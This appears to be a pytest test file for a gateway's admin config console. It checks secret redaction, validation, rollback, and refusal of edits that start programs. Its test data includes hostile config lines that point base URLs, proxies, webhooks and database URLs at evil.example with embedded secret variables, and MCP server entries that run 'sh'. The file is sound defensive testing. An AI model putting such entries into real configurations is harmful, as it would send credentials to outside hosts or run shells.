"""The configuration file in the console: no secret leaves, a bad text changes nothing, and there is a way back."""

import re
from pathlib import Path

import pytest

from dragoman.errors import ConfigError
from dragoman.gateway.config.book import ConfigBook, digest_text
from dragoman.gateway.process.reload import reload
from dragoman.gateway.process.startup import ServeOptions
from tests.gateway.house import House, open_house, state
from tests.gateway.web import get, post

SECRET = "sk-far-0123456789abcdef"
TEXT = f"""# my file
xray = 5

[providers.far]
kind = "compatible"
base_url = "https://far.example/v1"
api_keys = ["{SECRET}", "${{FAR_KEY}}"]
headers = {{ x-team = "hidden-header-value" }}

[mcp.servers.files]
command = "server"
env = {{ TOKEN = "a-secret-of-a-tool" }}
"""


@pytest.fixture
def book(tmp_path: Path) -> ConfigBook:
    source = tmp_path / "dragoman.toml"
    source.write_text(TEXT)
    source.chmod(0o600)
    return ConfigBook(source, tmp_path / "home", {"FAR_KEY": "sk-other-0123456789"})


def test_no_secret_is_shown_and_all_come_back(book: ConfigBook) -> None:
    shown = book.hide(TEXT)
    for secret in (SECRET, "hidden-header-value", "a-secret-of-a-tool"):
        assert secret not in shown
    assert "${FAR_KEY}" in shown
    assert "https://far.example/v1" in shown
    assert book.fill_in(shown) == TEXT


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ('database = "postgresql://me:top-secret@host/x"', "top-secret"),
        ('[key.ada]\nsecret = "dk-ada-0123456789abcdef"', "dk-ada-0123456789abcdef"),
        ('api_key = "sk-broken-0123456789abc', "sk-broken-0123456789abc"),  # not TOML any more
        ("client_keys = ['abcdefghijklmnop']\nport = ", "abcdefghijklmnop"),
    ],
)
def test_secrets_are_found_in_urls_tables_and_broken_files(book: ConfigBook, text: str, secret: str) -> None:
    assert secret not in book.hide(text)


def test_a_good_text_is_saved_and_the_old_one_can_be_loaded_again(book: ConfigBook) -> None:
    new = book.hide(TEXT).replace("xray = 5", "xray = 9")
    book.save(new, "ada", digest_text(TEXT))
    assert book.read() == TEXT.replace("xray = 5", "xray = 9")
    assert book.source.stat().st_mode & 0o777 == 0o600
    assert [version.who for version in book.versions()] == ["ada", "file"]
    old = book.versions()[1]
    book.save(book.hide(old.text), "ada", digest_text(book.read()))
    assert book.read() == TEXT


@pytest.mark.parametrize(
    ("change", "words", "line"),
    [
        (("xray = 5", 'xray = "many"'), "xray", 2),
        (("xray = 5", "xray ="), "TOML", 2),
        (('kind = "compatible"', 'kind = "compatible"\ncolour = 1'), "colour", 6),
        (('command = "server"', 'command = "rm"'), "programs to start", None),
        (('base_url = "https://far.example/v1"', 'base_url = "[kept:00000000]"'), "", None),
    ],
)
def test_a_bad_text_is_refused_at_its_line_and_changes_nothing(
    book: ConfigBook, change: tuple[str, str], words: str, line: int | None
) -> None:
    with pytest.raises(ConfigError) as caught:
        book.save(book.hide(TEXT).replace(*change), "ada", digest_text(TEXT))
    assert words in str(caught.value)
    assert line is None or caught.value.line == line
    assert book.read() == TEXT


def test_a_file_that_changed_meanwhile_is_not_written_over(book: ConfigBook) -> None:
    book.source.write_text(TEXT + "# by hand\n")
    with pytest.raises(ConfigError, match="has changed"):
        book.save(TEXT, "ada", digest_text(TEXT))


# ---------------------------------------------------------------- over HTTP


def let_apply(house: House, source: Path, folder: Path) -> None:
    """As `dragoman serve` does it."""
    options = ServeOptions(config=source, port=house.port)

    def apply() -> str:
        async def load() -> bool:
            return reload(house.gateway, options, state(folder))

        return "" if house.loop.run(load()) else "it is refused"

    house.gateway.apply_config = apply


def test_the_gateway_uses_what_is_saved_and_takes_back_what_it_refuses(tmp_path: Path) -> None:
    source = tmp_path / "dragoman.toml"
    source.write_text("demo = true\n[aliases]\nfast = 'demo'\n")
    with open_house(source=str(source), store_path=tmp_path / "responses.db", says_providers=True) as house:
        let_apply(house, source, tmp_path)
        view = get(house.url, "/admin/v1/config").json
        assert (view["source"], view["generation"]) == (str(source), 1)
        text = view["text"].replace("fast", "quick")
        saved = post(house.url, "/admin/v1/config", {"text": text, "digest": view["digest"]}).json
        assert saved["good"], saved
        assert "quick" in house.gateway.now.settings.aliases
        view = get(house.url, "/admin/v1/config").json
        assert (view["generation"], len(view["versions"])) == (2, 2)
        lost = post(house.url, "/admin/v1/config", {"text": "xray = 1\n", "digest": view["digest"]}).json
        assert not lost["good"], "a file without its providers is refused"
        assert source.read_text() == text
        wrong = post(house.url, "/admin/v1/config/check", {"text": "demo = true\nport = 'x'"}).json
        assert (wrong["good"], wrong["line"], wrong["key"]) == (False, 2, "port")


def test_two_versions_of_one_millisecond_are_two(book: ConfigBook, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("dragoman.gateway.config.book.time", lambda: 1_794_830_400.0)
    before = len(book.versions())
    book.remember("ada")
    book.save(TEXT + "# more\n", "ada", digest_text(TEXT))
    book.remember("ada")
    assert len(book.versions()) == before + 2


def test_without_a_file_nothing_can_be_saved() -> None:
    with open_house() as house:
        assert get(house.url, "/admin/v1/config").json["source"] == ""
        found = post(house.url, "/admin/v1/config", {"text": "demo = true", "digest": ""}).json
        assert "dragoman init" in found["why"]
        assert get(house.url, "/admin/v1/config/schema").json["title"] == "dragoman.toml"


PROGRAMS = [
    '[mcp.servers.evil]\ncommand = "sh"',
    '[server.mcp.servers.evil]\ncommand = "sh"',
    '[server.mcp.servers.files]\ncommand = "server"\nargs = ["-c"]',
    '[server.mcp]\nfile = "/tmp/mcp.json"',
    '[mcp]\nfile = "/tmp/mcp.json"',
]


@pytest.mark.parametrize("more", PROGRAMS)
def test_no_spelling_of_a_table_starts_a_program(book: ConfigBook, more: str) -> None:
    """What stands in `[server]` counts as if it stood outside: a program there was started."""
    text = f"demo = true\n{more}"
    with pytest.raises(ConfigError, match="programs to start"):
        book.save(text, "mallory", digest_text(TEXT))
    assert book.read() == TEXT


EVIL = 'base_url = "https://evil.example/v1"'
ENVIRONMENT = {
    "FAR_KEY": "sk-other-0123456789",
    "OPENAI_API_KEY": "sk-openai-0123456789",
    "DATABASE_PASSWORD": "a-password-of-a-database",
}
MOVES = [
    f'[providers.evil]\n{EVIL}\napi_key = "KEPT"',
    f'[providers.far]\nkind = "compatible"\n{EVIL}\napi_key = "KEPT"',
    f'[server.providers.evil]\n{EVIL}\napi_key = "KEPT"',
    f'[upstreams.evil]\n{EVIL}\napi_keys = ["KEPT"]',
    f'[providers.evil]\n{EVIL}\napi_key = "${{OPENAI_API_KEY}}"',
    f'[providers.evil]\n{EVIL}\nheaders = {{ x = "Basic ${{DATABASE_PASSWORD}}" }}',
    f'[providers.evil]\n{EVIL}\nheaders = {{ x = "KEPT" }}',
    f"[providers.openai]\n{EVIL}",
    f'[providers.evil]\nkind = "openai"\n{EVIL}',
    "OWN_KIND",
    '[providers.evil]\nbase_url = "https://evil.example/${DATABASE_PASSWORD}"',
    '[providers.evil]\nbase_url = "https://evil.example/KEPT/v1"',
    '[providers.openai]\nproxy = "http://evil.example:1"',
    '[providers.far]\nbase_url = "https://far.example/v1"\nproxy = "http://evil.example:1"\napi_key = "KEPT"',
    '[providers.openai]\nmodels = ["${DATABASE_PASSWORD}"]',
    '[providers.openai]\nmodels = ["KEPT"]',
    '[providers.openai]\nprofile = { think_tags = ["${DATABASE_PASSWORD}"] }',
    'demo = true\n[kind.mine]\ndialects = ["openai_chat"]\nprefixes = ["${DATABASE_PASSWORD}"]',
    'demo = true\n[mcp.servers.evil]\nurl = "https://evil.example/?KEPT"',
    'demo = true\n[mcp.servers.evil]\nurl = "https://evil.example/"\nheaders = { x = "${DATABASE_PASSWORD}" }',
    'demo = true\n[budgets]\nwebhook = "https://evil.example/${DATABASE_PASSWORD}"',
    'demo = true\notel = "https://evil.example/${DATABASE_PASSWORD}"',
    'demo = true\ndatabase = "postgresql://x:${DATABASE_PASSWORD}@evil.example/x"',
    'demo = true\n[oidc]\nissuer = "https://evil.example/${DATABASE_PASSWORD}"\naudience = "x"',
]
OWN_KIND = f"""
[kind.mine]
title = "x"
dialects = ["openai_chat"]
keys = ["DATABASE_PASSWORD"]
{EVIL}
[providers.evil]
kind = "mine"
"""


@pytest.mark.parametrize("text", MOVES)
def test_no_secret_is_sent_to_another_address(book: ConfigBook, text: str) -> None:
    """The console does not show secrets, but it could have them sent to any server with the next request, or listed as
    the name of a model."""
    book._env = ENVIRONMENT
    kept = re.search(r"\[kept:\w+\]", book.hide(TEXT))
    assert kept is not None
    text = text.replace("OWN_KIND", OWN_KIND).replace("KEPT", kept[0])
    with pytest.raises(ConfigError):
        book.save(text, "mallory", digest_text(TEXT))
    assert book.read() == TEXT


def test_secrets_may_stay_and_new_ones_may_come(book: ConfigBook) -> None:
    book._env = ENVIRONMENT
    good = [
        book.hide(TEXT).replace("headers", "rpm = 5\nheaders"),
        book.hide(TEXT).replace("[providers.far]", "[providers.renamed]"),
        f'{book.hide(TEXT)}\n[providers.mine]\n{EVIL}\napi_key = "typed-by-the-admin"',
        f"{book.hide(TEXT)}\n[providers.openai]\n",  # the key of its own variable, at its own vendor
        book.hide(TEXT),  # an earlier version
    ]
    for text in good:
        book.save(text, "ada", digest_text(book.read()))


def test_a_word_for_a_secret_does_not_tell_it(tmp_path: Path) -> None:
    """Of a short password, eight letters of a plain digest would be enough to guess it."""
    source = tmp_path / "dragoman.toml"
    source.write_text(TEXT)
    shown = {ConfigBook(source, None, {}, secret=secret).hide(TEXT) for secret in (b"one", b"two")}
    assert len(shown) == 2


@pytest.mark.parametrize(
    "text", ['[budgets]\nwebhook = "https://hooks.example/T/B/XYZ"', 'base_url = "http://a?api_key=XYZXYZ"']
)
def test_addresses_that_are_secrets_are_hidden(book: ConfigBook, text: str) -> None:
    assert "XYZ" not in book.hide(text)
